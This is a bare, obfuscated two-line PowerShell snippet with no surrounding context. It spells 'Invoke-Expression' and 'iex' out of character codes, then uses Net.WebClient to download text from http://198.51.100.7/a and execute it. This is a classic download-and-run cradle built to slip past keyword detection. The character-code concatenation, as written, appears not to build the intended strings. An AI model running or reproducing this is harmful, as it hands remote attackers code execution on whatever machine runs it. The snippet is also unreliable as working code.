$n = ([char]73+[char]110+[char]118+[char]111+[char]107+[char]101) + '-' + ([char]69+[char]120+[char]112+[char]114+[char]101+[char]115+[char]115+[char]105+[char]111+[char]110)
& ([char]105+[char]101+[char]120) (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')
